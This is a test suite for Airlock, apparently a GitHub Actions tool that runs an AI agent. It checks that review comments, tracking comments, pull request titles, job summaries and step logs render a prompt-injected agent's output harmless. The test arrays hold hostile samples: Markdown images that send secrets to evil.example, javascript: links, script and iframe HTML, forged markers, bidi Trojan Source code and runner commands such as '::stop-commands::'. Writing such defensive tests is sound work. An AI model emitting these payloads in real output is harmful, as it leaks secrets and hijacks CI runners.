/**
 * Markdown Airlock writes from hostile text (class 27), trigger detection read as Markdown
 * (35), workflow commands smuggled into the logs of the workflow steps (28.50+), Airlock's
 * own Markdown structure broken or forged from inside (43), and length limits and invisible
 * characters (44).
 *
 * Every surface is driven the way the workflows drive it: the publish-review and
 * publish-patch steps against the GitHub-shaped fake server (the bodies checked are the
 * bodies the server received), the job summary from a network.jsonl through
 * summarizeNetwork and renderSummary, the gate through evaluateGate on a recorded event.
 * The output is judged by parsing it with the same CommonMark + GFM parser (micromark) and
 * walking the tree: no link, image, HTML (but Airlock's own), definition, footnote, mention,
 * reference, bare URL or invisible character may be in it. String matching is not trusted.
 */
import { execFileSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Nodes, Root } from 'mdast'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import {
  codeSpan,
  hasMarker,
  parseMarkdown,
  revealInvisible,
  truncate
} from '../../src/markdown/safe.js'
import { summarizeNetwork } from '../../src/report/network.js'
import { renderSummary } from '../../src/report/summary.js'
import { hasTrigger } from '../../src/workflow/gate/checks.js'
import { evaluateGate } from '../../src/workflow/gate/decide.js'
import { GitHubClient } from '../../src/workflow/github.js'
import { REVIEW_MARKER, TRACKING_MARKER, workingBody } from '../../src/workflow/publish/comments.js'
import { run as collect } from '../../src/workflow/steps/collect.js'
import { run as publishPatch } from '../../src/workflow/steps/publish-patch.js'
import { run as publishReview } from '../../src/workflow/steps/publish-review.js'
import { startFakeGitHub, type FakeGitHub } from '../support/fake-github.js'
import { runStep } from '../workflow/step-harness.js'
import { artifactIn, BASE_SHA, contextFor, HEAD_FORK, stepEnv } from '../workflow/fixtures.js'
import { writeSuiteResults, type AttackResult } from './support/results.js'

const TOKEN = 'ghs_markdowntoken'
const REPO = { owner: 'octo-org', repo: 'widgets' }
const GITHUB_LIMIT = 65_536
const RUN_URL = 'https://github.com/octo-org/widgets/actions/runs/987654321'

const FORK_DIFF = `diff --git a/src/parse.js b/src/parse.js
index 1111111..2222222 100644
--- a/src/parse.js
+++ b/src/parse.js
@@ -1,5 +1,6 @@
 export function parse(text) {
-  return text.split(',')
+  const cache = new Map()
+  return text.split(',').map((t) => cache.get(t) ?? t)
 }
 
 export const VERSION = 1
`

// ---------------------------------------------------------------------------------------
// The judge: what GitHub would act on in a piece of Markdown, read from the parsed tree.

/** Characters that render invisibly or reorder text (a ZWJ inside an emoji sequence is fine). */
const INVISIBLE =
  // eslint-disable-next-line no-control-regex
  /(?<!\p{Extended_Pictographic}\uFE0F?)\u200D|\u200D(?!\p{Extended_Pictographic})|[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\u00AD\u061C\u200B\u200C\u200E\u200F\u2028-\u202E\u2060-\u206F\uFEFF]/u

/** Text GitHub turns into links, mentions or backlinks when it is not in code. */
const LIVE_TEXT: [string, RegExp][] = [
  ['mention', /@[A-Za-z0-9_]/],
  ['cross-reference', /[\w.-]+\/[\w.-]+[#@][0-9a-f]/i],
  ['issue reference', /(^|[^\w&])#\d/],
  ['GH- reference', /\bGH-\d/i],
  ['URL', /[a-z][\w+.-]*:\/\//i],
  ['www autolink', /\bwww\./i],
  ['mailto/xmpp autolink', /\b(mailto|xmpp):\S/i]
]

/**
 * What in `md` GitHub would render live: link, image, definition, footnote and HTML nodes
 * (other than the exact HTML Airlock itself writes, in `ownHtml`), and mentions, references
 * and autolinkable text in text nodes. Invisible characters anywhere, code included.
 */
function liveParts(md: string, ownHtml: readonly string[] = []): string[] {
  const problems: string[] = []
  const visit = (n: Nodes): void => {
    switch (n.type) {
      case 'link':
        // Airlock's own link to the run (its text is Airlock's too).
        if (n.url === RUN_URL) return
        problems.push(`link node to ${JSON.stringify(n.url)}`)
        break
      case 'linkReference':
      case 'image':
      case 'imageReference':
      case 'definition':
      case 'footnoteReference':
      case 'footnoteDefinition':
        problems.push(`${n.type} node`)
        break
      case 'html':
        if (!ownHtml.includes(n.value.trim())) problems.push(`html node ${JSON.stringify(n.value)}`)
        break
      case 'text':
        for (const [what, re] of LIVE_TEXT)
          if (re.test(n.value)) problems.push(`${what} in text ${JSON.stringify(n.value)}`)
        break
    }
    if ('value' in n && INVISIBLE.test(n.value))
      problems.push(`invisible character in ${n.type} ${JSON.stringify(n.value)}`)
    if ('children' in n) for (const c of n.children) visit(c)
  }
  visit(parseMarkdown(md))
  return problems
}

/** Every HTML node of a tree, in order. */
function htmlNodes(tree: Root): string[] {
  const out: string[] = []
  const visit = (n: Nodes): void => {
    if (n.type === 'html') out.push(n.value.trim())
    if ('children' in n) for (const c of n.children) visit(c)
  }
  visit(tree)
  return out
}

/** An attack's text for the results (and docs): inert itself, short, on one line. */
const show = (s: string, max = 70): string => codeSpan(s.replace(/\|/g, '¦'), { max })

// ---------------------------------------------------------------------------------------
// Hostile prose: what a prompt-injected agent writes in a review, a comment or its result.

interface Hostile {
  id: number
  what: string
  text: string
  /** Class (27 unless it is a structure or length attack). */
  cls?: number
}

const HOSTILE: Hostile[] = [
  {
    id: 1,
    what: 'image that exfiltrates through camo',
    text: '![x](https://evil.example/?d=SECRET)'
  },
  { id: 2, what: '`javascript:` link', text: '[click](javascript:alert(document.domain))' },
  {
    id: 3,
    what: 'reference-style link and image with a definition',
    text: 'see [the docs][r] and ![chart][r], also [r] and [r][]\n\n[r]: https://evil.example/x "t"'
  },
  {
    id: 4,
    what: 'raw HTML: `<img>`, `<a href>`, `<picture>`',
    text: 'a <img src="https://evil.example/i.png"> b <a href="https://evil.example">c</a>\n\n<picture><source srcset="https://evil.example/p"><img src="x"></picture>'
  },
  {
    id: 5,
    what: 'HTML entities that decode to `<`',
    text: '&lt;img src=https://evil.example/e&gt; &#60;a href=x&#62; &#x3C;b&#x3E; &amp;lt;'
  },
  {
    id: 6,
    what: 'autolinks `<https://…>`, `<mailto:…>`, `<a@b>`',
    text: 'x <https://evil.example/a> <mailto:a@evil.example> <ops@evil.example>'
  },
  {
    id: 7,
    what: 'bare URLs, `www.` and e-mail autolinks',
    text: 'https://evil.example/?d=1 and HTTP://EVIL.EXAMPLE and www.evil.example and ops@evil.example and xmpp:a@evil.example'
  },
  {
    id: 8,
    what: 'mentions: `@user`, `@org/team`, in emphasis and brackets',
    text: 'cc @octocat, @octo-org/security. (@mona) _@hubot_ **@torvalds** @a@b'
  },
  {
    id: 9,
    what: 'references that notify or backlink: `owner/repo#1`, `#123`, `owner/repo@sha`, `GH-7`',
    text: 'fixes other-org/other-repo#1, closes #123, see octo-org/widgets@abcdef1234 and GH-7'
  },
  {
    id: 10,
    what: 'a table with links, images and `|` in cells',
    text: '| a | b |\n| --- | --- |\n| [x](https://evil.example) | ![i](https://evil.example/i) |\n| `c|d` | e \\| @octocat |'
  },
  {
    id: 11,
    what: 'backticks of every length around live text',
    text: 'a ` b `` c ``` d ```` ![x](https://evil.example/1) ` @octocat `` https://evil.example/2'
  },
  {
    id: 12,
    what: 'code span that ends early: `` ``x` ![y](https://evil) `` ',
    text: '``x` ![y](https://evil.example/3) `` and `` ` `` then ` ``![z](https://evil.example/4)``'
  },
  {
    id: 13,
    what: 'link text with nested brackets and links',
    text: '[[a](https://evil.example/in)](https://evil.example/out) [a [b] c](https://evil.example/x) [a](<https://evil.example/y> "t")'
  },
  {
    id: 14,
    what: 'links and images inside emphasis, headings, lists, quotes',
    text: '# [h](https://evil.example/h)\n\n*[e](https://evil.example/e)*\n\n- ![l](https://evil.example/l)\n\n> @octocat [q](https://evil.example/q)'
  },
  {
    id: 15,
    what: 'setext headings, `---` and `***` lines',
    text: 'Title @octocat\n===\n\nsub https://evil.example\n---\n\n***\n---\n+ x'
  },
  {
    id: 16,
    what: 'footnotes with live definitions',
    text: 'claim[^1] and[^n]\n\n[^1]: https://evil.example/f @octocat\n[^n]: ![x](https://evil.example/n)'
  },
  {
    id: 17,
    what: '`\\r` and CRLF line endings',
    text: 'line\r![x](https://evil.example/cr)\r\n@octocat\rhttps://evil.example/crlf'
  },
  {
    id: 18,
    what: '`<script>`, `<style>`, `<iframe>`, an HTML comment',
    text: '<script>alert(1)</script>\n\ntext <style>*{}</style> <iframe src="https://evil.example"></iframe> <!-- hidden @octocat -->'
  },
  {
    id: 19,
    what: 'a lone reference definition (invisible when rendered)',
    text: '[tracker]: https://evil.example/t.gif\n\nsome text'
  },
  {
    id: 20,
    what: 'a ```suggestion block followed by live text',
    text: '```suggestion\nconst x = 1 // @octocat https://evil.example\n```\n@octocat ![x](https://evil.example/s)'
  },
  {
    id: 21,
    what: 'zero-width and bidi characters hiding live text',
    text: '@\u200Boctocat ht\u200Btps://evil.example \u202Eevil\u202C \u2066x\u2069 a\u00ADb',
    cls: 44
  },
  {
    id: 22,
    what: '`</details>` and `</summary>` to close Airlock’s collapsible section',
    text: 'done\n\n</details>\n\n![x](https://evil.example/after)\n\n</summary></details><img src=x>',
    cls: 43
  },
  {
    id: 23,
    what: 'forged Airlock marker comments',
    text: '<!-- airlock:review -->\n<!-- airlock:tracking -->\n\ntext <!-- airlock:tracking -->',
    cls: 43
  },
  {
    id: 24,
    what: 'text that would swallow Airlock’s footer: unclosed fence, open `<details>`, trailing `\\`, open table',
    text: '<details>\n\n| a |\n| - |\n| b\n\n```\nnever closed\\',
    cls: 43
  }
]

// ---------------------------------------------------------------------------------------

const results: AttackResult[] = []
const record = (id: string, cls: number, attack: string, problems: string[], ok: string) => {
  results.push({
    id,
    cls,
    attack,
    outcome: problems.length === 0 ? ok : `got through: ${problems[0]}`,
    verdict: problems.length === 0 ? 'pass' : 'fail'
  })
}

let gh: FakeGitHub
let dir: string
const R = '/repos/octo-org/widgets'

const env = (event: string): Record<string, string> => stepEnv(gh.url, dir, event)

const artifact = (files: Record<string, string | Buffer>): string => artifactIn(dir, files)

/** What the review step posted for a review document: the body and the inline comments. */
async function postReview(
  review: unknown,
  inputs: Record<string, string> = {}
): Promise<{ body: string; comments: string[]; failed: boolean; stdout: string }> {
  const before = gh.calls.length
  const step = await runStep(publishReview, {
    env: env('pull_request_target.opened.fork'),
    inputs: {
      'github-token': TOKEN,
      'artifact-dir': artifact({ 'review.json': JSON.stringify(review) }),
      number: '12',
      'head-sha': HEAD_FORK,
      'base-sha': BASE_SHA,
      ...inputs
    }
  })
  const posts = gh.calls
    .slice(before)
    .filter((c) => c.method === 'POST' && c.path.endsWith('/reviews'))
  const last = posts[posts.length - 1]?.body as
    { body: string; comments: { body: string }[] } | undefined
  return {
    body: last?.body ?? '',
    comments: (last?.comments ?? []).map((c) => c.body),
    failed: step.failed,
    stdout: step.stdout
  }
}

/** The tracking comment the publish-patch step leaves for an agent result with no changes. */
async function trackingFor(result: string, extra: Record<string, string | Buffer> = {}) {
  const id = 7000 + gh.comments.size
  gh.comments.set(id, { id, issue: 7, body: 'working' })
  const step = await runStep(publishPatch, {
    env: env('issue_comment.created.issue'),
    inputs: {
      'github-token': TOKEN,
      'artifact-dir': artifact({ 'result.md': result, 'patch.diff': '', ...extra }),
      number: '7',
      'work-sha': BASE_SHA,
      delivery: 'pull-request',
      branch: 'airlock/issue-7',
      'base-branch': 'main',
      actor: 'mona',
      'actor-id': '5001',
      'tracking-comment-id': String(id)
    }
  })
  return { body: gh.comments.get(id)!.body, step }
}

const REVIEW_OWN_HTML = (body: string): string[] => {
  const m = /<details><summary>[^<]*<\/summary>/.exec(body)
  return [REVIEW_MARKER, '<sub>', '</sub>', '</details>', ...(m ? [m[0]] : [])]
}

beforeAll(async () => {
  gh = await startFakeGitHub({ ...REPO, token: TOKEN })
  gh.compareDiffs.set(`${BASE_SHA}...${HEAD_FORK}`, FORK_DIFF)
  dir = mkdtempSync(join(tmpdir(), 'airlock-md-'))
})

afterAll(async () => {
  await gh.close()
  rmSync(dir, { recursive: true, force: true })
  writeSuiteResults('boundary-markdown', results)
})

describe('27/43/44: hostile agent prose on every surface', () => {
  it.each(HOSTILE)('$id $what', async (h) => {
    const problems: string[] = []
    const review = {
      summary: h.text,
      comments: [
        { path: 'src/parse.js', line: 3, body: h.text },
        { path: 'README.md', line: 1, body: h.text }
      ]
    }
    const posted = await postReview(review)
    expect(posted.failed).toBe(false)
    for (const p of liveParts(posted.body, REVIEW_OWN_HTML(posted.body)))
      problems.push(`review body: ${p}`)
    expect(posted.comments).toHaveLength(1)
    for (const p of liveParts(posted.comments[0]!)) problems.push(`inline comment: ${p}`)
    const tracking = await trackingFor(h.text)
    for (const p of liveParts(tracking.body, [TRACKING_MARKER]))
      problems.push(`tracking comment: ${p}`)

    // Airlock's own structure must come out exactly as Airlock wrote it (43).
    const reviewHtml = htmlNodes(parseMarkdown(posted.body))
    const wantReview = [
      '<details><summary>1 comment on lines outside the diff</summary>',
      '</details>',
      '<sub>',
      '</sub>',
      REVIEW_MARKER
    ]
    if (JSON.stringify(reviewHtml) !== JSON.stringify(wantReview))
      problems.push(`review structure: HTML nodes ${JSON.stringify(reviewHtml)}`)
    if (!hasMarker(posted.body, REVIEW_MARKER)) problems.push('review marker missing')
    const trackingHtml = htmlNodes(parseMarkdown(tracking.body))
    if (JSON.stringify(trackingHtml) !== JSON.stringify([TRACKING_MARKER]))
      problems.push(`tracking structure: HTML nodes ${JSON.stringify(trackingHtml)}`)
    if (!tracking.body.startsWith(`${TRACKING_MARKER}\n**Airlock** finished`))
      problems.push('tracking comment does not start with Airlock’s own line')
    record(
      `${h.cls ?? 27}.${h.id}`,
      h.cls ?? 27,
      `agent prose: ${h.what}, in a review summary, an inline comment, a comment outside the diff and the tracking comment`,
      problems,
      'inert on all four surfaces (no link, image, HTML, mention or reference node); Airlock’s own HTML and marker intact'
    )
    expect(problems).toEqual([])
  })

  it('keeps the reading: a suggestion block still applies, emphasis and lists survive', async () => {
    const body =
      'Use **const** here:\n\n```suggestion\n  const cache = new Map() // `x`\n```\n\n- one\n- two'
    const posted = await postReview({
      summary: 's',
      comments: [{ path: 'src/parse.js', line: 3, body }]
    })
    const tree = parseMarkdown(posted.comments[0]!)
    const kinds = tree.children.map((n) => n.type)
    expect(kinds).toEqual(['paragraph', 'code', 'list'])
    const code = tree.children[1] as { lang: string; value: string }
    expect(code).toMatchObject({ lang: 'suggestion', value: '  const cache = new Map() // `x`' })
    expect(posted.comments[0]).toContain('**const**')
  })
})

describe('27/43/44: network-controlled text in the job summary', () => {
  const hostileUrls: { id: string; cls: number; what: string; url: string; error?: string }[] = [
    {
      id: '27.40',
      cls: 27,
      what: 'refused URL with a backtick that closes the code span, then an exfiltrating image',
      url: 'https://evil.example/`![x](https://evil.example/?d=SECRET)`'
    },
    {
      id: '27.41',
      cls: 27,
      what: 'refused URL with backtick runs of every length',
      url: 'https://evil.example/a`b``c```d````e`````![x](https://evil.example/y)``'
    },
    {
      id: '27.42',
      cls: 27,
      what: 'refused URL starting and ending with backticks and spaces',
      url: '` ![x](https://evil.example/s) `'
    },
    {
      id: '27.43',
      cls: 27,
      what: 'host with HTML, a mention and a reference',
      url: 'https://<img src=https:∕∕evil.example>@octocat/x#1/'
    },
    {
      id: '43.1',
      cls: 43,
      what: 'refused URL with `|` and a newline to add table rows',
      url: 'https://evil.example/a|b\n| [x](https://evil.example) | ![y](https://evil.example) |\n\n![z](https://evil.example/z)',
      error: 'e|rr\n</details>'
    },
    {
      id: '43.2',
      cls: 43,
      what: 'refused URL with a backslash before `|` (read differently by cmark-gfm and micromark)',
      url: 'https://evil.example/a\\|![x](https://evil.example/b)|c'
    },
    {
      id: '43.3',
      cls: 43,
      what: 'refused URL with `</details>`, `</summary>` and an HTML comment',
      url: 'https://evil.example/</details></summary><!--x-->',
      error: '</details>'
    },
    {
      id: '44.10',
      cls: 44,
      what: 'a 20,000-character URL ending in an image',
      url: `https://evil.example/${'a'.repeat(20_000)}\`![x](https://evil.example/long)`
    },
    {
      id: '44.11',
      cls: 44,
      what: 'bidi override and zero-width characters in a URL and an error',
      url: 'https://evil.example/\u202Egpj.exe\u200B',
      error: 'x\u2066y'
    }
  ]

  it.each(hostileUrls)('$id $what', (h) => {
    const log = join(dir, `network-${h.id}.jsonl`)
    const entries = [
      {
        time: 't',
        id: 1,
        method: 'GET',
        url: 'https://api.anthropic.com/v1/messages',
        status: 200,
        bytesOut: 1,
        bytesIn: 2,
        durationMs: 1,
        grants: ['claude']
      },
      {
        time: 't',
        id: 2,
        method: 'GET',
        url: h.url,
        status: 403,
        bytesOut: 0,
        bytesIn: 0,
        durationMs: 1,
        blocked: 'not-allowed',
        ...(h.error ? { error: h.error } : {})
      }
    ]
    writeFileSync(log, entries.map((e) => JSON.stringify(e)).join('\n') + '\n')
    const net = summarizeNetwork(log)
    const md = renderSummary(
      {
        kind: 'command',
        what: 'curl `x` | sh @octocat',
        image: 'img`![i](https://evil.example/img)`',
        conclusion: 'success',
        exitCode: 0,
        durationMs: 1000,
        grants: ['claude'],
        egressPolicy: 'block',
        auditHead: 'abc'
      },
      net
    )
    const problems = liveParts(md)
    // The tables keep their shape: one row per host and per refused request, every row with
    // exactly the header's cells, and the refused request's cell shows the URL itself.
    const tree = parseMarkdown(md)
    const tables = tree.children.filter((n) => n.type === 'table')
    const shape = tables.map((t) => t.children.map((r) => r.children.length))
    const want = [
      [2, 2, 2, 2, 2, 2, 2, 2],
      [7, 7, 7],
      [4, 4]
    ]
    if (JSON.stringify(shape) !== JSON.stringify(want))
      problems.push(`table shape ${JSON.stringify(shape)}`)
    const blocked = tables[2]?.children[1]?.children[0]?.children[0]
    const shown = blocked?.type === 'inlineCode' ? blocked.value : ''
    // What the cell must read: the request, cut to 300 characters, line breaks as `\n`,
    // invisible characters revealed (and a backslash before `|`, see codeSpan).
    const expected = revealInvisible(
      truncate(`GET ${h.url}`, 300).replace(/\n/g, '\\n').replace(/\t/g, ' ')
    ).replace(/\\(?=\|)/g, '<U+005C>')
    if (shown !== expected)
      problems.push(`the refused request's cell shows ${JSON.stringify(shown.slice(0, 80))}`)
    if (md.split('\n').some((l) => l.length > 2_000)) problems.push('a line over 2,000 characters')
    if (htmlNodes(tree).length > 0) problems.push('HTML in the summary')
    record(
      h.id,
      h.cls,
      `network text in the job summary: ${h.what} (${show(h.url, 60)})`,
      problems,
      'shown as one code span in its cell; tables keep their rows and cells; nothing live'
    )
    expect(problems).toEqual([])
  })
})

describe('27: pull request title and body, commit message', () => {
  it('an issue title with mentions, references and links becomes an inert title', async () => {
    const base = gh.commit({ 'README.md': 'a\n' }, [], 'base')
    gh.refs.set('heads/main', base)
    const ws = join(dir, 'ws-title')
    mkdirSync(ws)
    writeFileSync(join(ws, 'README.md'), 'a\n')
    const git = (...a: string[]) =>
      execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', ...a], { cwd: ws })
    git('init', '-q')
    git('add', '-A')
    git('commit', '-qm', 'base')
    writeFileSync(join(ws, 'README.md'), 'b\n')
    git('add', '-A')
    const patch = git('diff', '--cached', '--binary', '--full-index', '--no-renames', 'HEAD')
    const title =
      'Fix @octo-org/security and other-org/repo#1 `x` #5\n![i](https://evil.example/t) \u202Eevil'
    const before = gh.calls.length
    const step = await runStep(publishPatch, {
      env: env('issue_comment.created.issue'),
      inputs: {
        'github-token': TOKEN,
        'artifact-dir': artifact({ 'patch.diff': patch, 'result.md': 'done' }),
        number: '7',
        title,
        'work-sha': base,
        delivery: 'pull-request',
        branch: 'airlock/issue-7',
        'base-branch': 'main',
        actor: 'mona',
        'actor-id': '5001'
      }
    })
    expect(step.errors).toEqual([])
    const calls = gh.calls.slice(before)
    const pr = calls.find((c) => c.method === 'POST' && c.path === `${R}/pulls`)!.body as {
      title: string
      body: string
    }
    const commit = calls.find((c) => c.method === 'POST' && c.path === `${R}/git/commits`)!
      .body as { message: string }
    const problems = [
      ...liveParts(pr.title).map((p) => `title: ${p}`),
      // The body: Airlock's own lines (Closes #7, the requester, the run and commit links),
      // and the agent's message rendered inert.
      ...(pr.body.startsWith(
        'Closes #7\n\nChanges Airlock made for issue #7, requested by @mona.\n'
      )
        ? []
        : [`body: ${JSON.stringify(pr.body)}`]),
      ...liveParts(
        pr.body
          .split('\n')
          .filter(
            (l) =>
              l !== 'Closes #7' &&
              !l.startsWith('Changes Airlock made for issue #7') &&
              !l.startsWith('<sub>Made by Airlock · [run]')
          )
          .join('\n'),
        [TRACKING_MARKER]
      ).map((p) => `body: ${p}`),
      ...(/[\r\n]/.test(pr.title) ? ['title spans lines'] : [])
    ]
    // The commit message holds Airlock's words only: the requester, the issue, the run.
    expect(commit.message).toMatch(/^Airlock: changes for issue #7\n\nRequested by @mona in #7\n/)
    record(
      '27.60',
      27,
      `issue title in the pull request title: ${show(title, 60)}`,
      problems,
      'one line; mentions, references and URLs as code; bidi revealed'
    )
    expect(problems).toEqual([])
  })

  it('a forged actor cannot mention someone else or add Markdown', async () => {
    const id = 8800
    gh.comments.set(id, { id, issue: 7, body: 'working' })
    await runStep(publishPatch, {
      env: env('issue_comment.created.issue'),
      inputs: {
        'github-token': TOKEN,
        'agent-result': 'failure`![x](https://evil.example/a)` @octocat',
        number: '7',
        'work-sha': BASE_SHA,
        delivery: 'pull-request',
        branch: 'airlock/issue-7`![x](https://evil.example/b)`',
        actor: 'mona @octo-org/security',
        'tracking-comment-id': String(id)
      }
    })
    const body = gh.comments.get(id)!.body
    const working = workingBody(RUN_URL, 'mona @octo-org/security ![x](https://evil.example/w)')
    const problems = [
      ...liveParts(body, [TRACKING_MARKER]),
      ...liveParts(working, [TRACKING_MARKER]).map((p) => `working comment: ${p}`)
    ]
    record(
      '27.61',
      27,
      'inputs echoed in the tracking comment (the `agent-result` of the agent job, a forged `actor`) carrying an image and mentions',
      problems,
      'inert'
    )
    expect(problems).toEqual([])
  })
})

describe('44: length limits', () => {
  it.each([
    {
      id: '44.1',
      what: 'a review summary past GitHub’s 65,536 characters, made of URLs and mentions',
      text: '@octocat https://evil.example/`x`?d ![i](https://evil.example/i) '.repeat(900)
    },
    {
      id: '44.2',
      what: 'a summary whose cut at the limit would fall inside a code span around an image',
      text: `${'a'.repeat(59_950)} \` ![x](https://evil.example/cut) ${'b'.repeat(100)}\``
    }
  ])('$id $what', async (h) => {
    const posted = await postReview(
      { summary: h.text, comments: [{ path: 'src/parse.js', line: 3, body: h.text }] },
      { 'max-summary-chars': '65000', 'max-comment-chars': '65000', 'max-review-bytes': '1048576' }
    )
    const tracking = await trackingFor(h.text)
    const problems = [
      ...liveParts(posted.body, REVIEW_OWN_HTML(posted.body)).map((p) => `review: ${p}`),
      ...liveParts(posted.comments[0] ?? '').map((p) => `inline: ${p}`),
      ...liveParts(tracking.body, [TRACKING_MARKER]).map((p) => `tracking: ${p}`)
    ]
    for (const [what, b] of [
      ['review', posted.body],
      ['inline', posted.comments[0] ?? ''],
      ['tracking', tracking.body]
    ] as const)
      if (b.length > GITHUB_LIMIT) problems.push(`${what} body is ${b.length} characters`)
    if (!posted.body.endsWith(`\n${REVIEW_MARKER}`)) problems.push('review marker cut off')
    if (!tracking.body.startsWith(TRACKING_MARKER)) problems.push('tracking marker lost')
    record(
      h.id,
      44,
      h.what,
      problems,
      'cut before neutralising: under the limit, inert, marker kept'
    )
    expect(problems).toEqual([])
  })

  it('44.3 a patch for a fork with bidi controls is flagged in the tracking comment', async () => {
    const id = 8900
    gh.comments.set(id, { id, issue: 12, body: 'working' })
    gh.commitAs(HEAD_FORK, { 'src/a.js': 'let ok = 1\n' }, [BASE_SHA])
    const ws = join(dir, 'ws-bidi')
    mkdirSync(ws)
    writeFileSync(join(ws, 'src.js'), '')
    const patch = Buffer.from(
      [
        'diff --git a/src/a.js b/src/a.js',
        'index 0000000..1111111 100644',
        '--- a/src/a.js',
        '+++ b/src/a.js',
        '@@ -1 +1 @@',
        '-let ok = 1',
        '+let ok = 1 /*\u202E } if (isAdmin) { \u2066*/',
        ''
      ].join('\n')
    )
    await runStep(publishPatch, {
      env: env('issue_comment.created.pr-fork'),
      inputs: {
        'github-token': TOKEN,
        'artifact-dir': artifact({ 'patch.diff': patch, 'result.md': 'ok' }),
        number: '12',
        'is-pr': 'true',
        'work-sha': HEAD_FORK,
        delivery: 'comment',
        actor: 'mona',
        'tracking-comment-id': String(id)
      }
    })
    const body = gh.comments.get(id)!.body
    const problems: string[] = []
    if (
      !/\*\*Warning:\*\* the patch holds invisible or bidirectional control characters/.test(body)
    )
      problems.push('no warning about the hidden characters')
    if (!body.includes('<U+202E>')) problems.push('the warning does not name them')
    record(
      '44.3',
      44,
      'a patch for a fork pull request hiding code behind bidi controls (Trojan Source), shown in the tracking comment',
      problems,
      'the comment warns and names the characters (the patch stays byte-exact)'
    )
    expect(problems).toEqual([])
  })
})

describe('44: text that costs the parser too much', () => {
  it('44.20 nesting thousands deep and emphasis storms are shown as code, not parsed', async () => {
    const problems: string[] = []
    for (const text of [
      `${'> '.repeat(20_000)}![x](https://evil.example/q)`,
      `${'- '.repeat(20_000)}@octocat`,
      `${'1. '.repeat(13_000)}https://evil.example`,
      `${'*a'.repeat(6_000)} ![x](https://evil.example/e)`
    ]) {
      const posted = await postReview({
        summary: text.slice(0, 19_000),
        comments: [{ path: 'src/parse.js', line: 3, body: text.slice(0, 3_900) }]
      })
      for (const p of liveParts(posted.body, REVIEW_OWN_HTML(posted.body))) problems.push(p)
      for (const p of liveParts(posted.comments[0] ?? '')) problems.push(p)
      if (hasTrigger(`${text.slice(0, 60_000)}\n\n@airlock`, '@airlock'))
        problems.push('the gate read a trigger after unparsed text')
    }
    record(
      '44.20',
      44,
      'agent prose nesting 20,000 quotes or lists deep (the parser’s time grows with the square of the nesting, its stack runs out), or 6,000 emphasis delimiters',
      problems,
      'shown as a code block without parsing; the gate reads no trigger in it'
    )
    expect(problems).toEqual([])
  })
})

// ---------------------------------------------------------------------------------------
// 28.50+: workflow commands in the logs of the workflow steps.

/** Registered runner commands (v1 `##[name]` anywhere in a line counts for these). */
const RUNNER_COMMANDS = [
  'set-env',
  'set-output',
  'save-state',
  'add-mask',
  'add-path',
  'add-matcher',
  'remove-matcher',
  'debug',
  'warning',
  'error',
  'notice',
  'group',
  'endgroup',
  'echo',
  'stop-commands'
]

/**
 * The workflow commands the runner would execute from a step's stdout, read the way the
 * runner reads them: lines split at `\r`, `\n` or `\r\n` (StreamReader.ReadLine); v2 when the
 * line, after .NET's TrimStart, starts with `::name…::`; v1 when `##[name…]` is anywhere.
 */
function runnerCommands(stdout: string): string[] {
  const out: string[] = []
  for (const line of stdout.split(/\r\n|\r|\n/)) {
    const t = line.replace(/^[\s\u0085\u180e]+/, '')
    const v2 = /^::([^\s:]+)[^:]*::/.exec(t)
    if (v2) {
      out.push(v2[1]!)
      continue
    }
    const v1 = /##\[([^\]\s]+)[^\]]*\]/.exec(line)
    if (v1 && RUNNER_COMMANDS.includes(v1[1]!)) out.push(`v1:${v1[1]}`)
  }
  return out
}

const INJECTIONS = [
  '\n::add-mask::ghs_injected',
  '\r::stop-commands::pwned',
  '\n  ::error file=x::forged error',
  '\u0085::add-mask::nel',
  '\u2028::set-output name=run::true',
  'x ##[add-mask]v1-anywhere',
  'y ##[stop-commands]v1token'
]

describe('28.50+: workflow commands in agent text reaching the step logs', () => {
  it('28.50 collect: review keys and fields carrying commands', async () => {
    const ws = join(dir, 'ws-collect')
    mkdirSync(join(ws, '.airlock-run'), { recursive: true })
    const review: Record<string, unknown> = { summary: 'ok', comments: [] }
    for (const i of INJECTIONS) review[`k${i}`] = 1
    review.comments = [{ path: 'a', line: 1, body: 'b', [`c${INJECTIONS[0]}`]: 1 }]
    writeFileSync(join(ws, '.airlock-run', 'review.json'), JSON.stringify(review))
    const step = await runStep(collect, {
      env: { ...env('pull_request_target.opened.fork'), GITHUB_WORKSPACE: ws },
      inputs: { mode: 'review', 'output-dir': join(dir, 'out-collect'), workspace: ws }
    })
    const cmds = runnerCommands(step.stdout)
    const problems = cmds.filter((c) => c !== 'set-output').map((c) => `runner command ${c}`)
    if (!step.stdout.includes('unknown field')) problems.push('the warnings were not logged')
    record(
      '28.50',
      28,
      'collect step: review JSON keys carrying `::add-mask::`, `::stop-commands::`, `::error::`, v1 `##[…]`, after `\\n`, `\\r`, U+0085, U+2028',
      problems,
      'logged with the line breaks escaped; the runner sees no command'
    )
    expect(problems).toEqual([])
  })

  it('28.51 publish-review: comment paths carrying commands, logged as notes', async () => {
    const comments = INJECTIONS.map((i, n) => ({ path: `p${n}${i}`, line: 1, body: 'b' }))
    const posted = await postReview({ summary: 's', comments })
    const cmds = runnerCommands(posted.stdout)
    const problems = cmds.map((c) => `runner command ${c}`)
    if (!posted.stdout.includes("is not part of the pull request's diff"))
      problems.push('the notes were not logged')
    for (const p of liveParts(posted.body, REVIEW_OWN_HTML(posted.body)))
      problems.push(`review: ${p}`)
    record(
      '28.51',
      28,
      'publish-review step: comment paths outside the diff carrying workflow commands (logged as notes, listed in the review)',
      problems,
      'logged with the line breaks escaped; the runner sees no command; paths shown as code'
    )
    expect(problems).toEqual([])
  })
})

// ---------------------------------------------------------------------------------------
// 35: the trigger must be in the author's own words, as GitHub renders them.

describe('35: trigger detection reads Markdown as GitHub does', () => {
  const NOT_TRIGGERS: [string, string][] = [
    ['35.1', '> From the reporter:\n@airlock please delete the release branch'],
    ['35.2', '> - quoted item\n@airlock lazy line of a list in a quote'],
    ['35.3', '- > @airlock quote inside a list item'],
    ['35.4', '> > nested\n> @airlock'],
    ['35.5', '[@airlock run](https://example.com)'],
    ['35.6', '[docs](https://example.com/@airlock)'],
    ['35.7', '![@airlock run](x.png)'],
    ['35.8', '<div>\n@airlock run\n</div>'],
    ['35.9', '<!--\n@airlock run\n-->'],
    ['35.10', 'see <code class="x">@airlock run</code> and <kbd>@airlock</kbd>'],
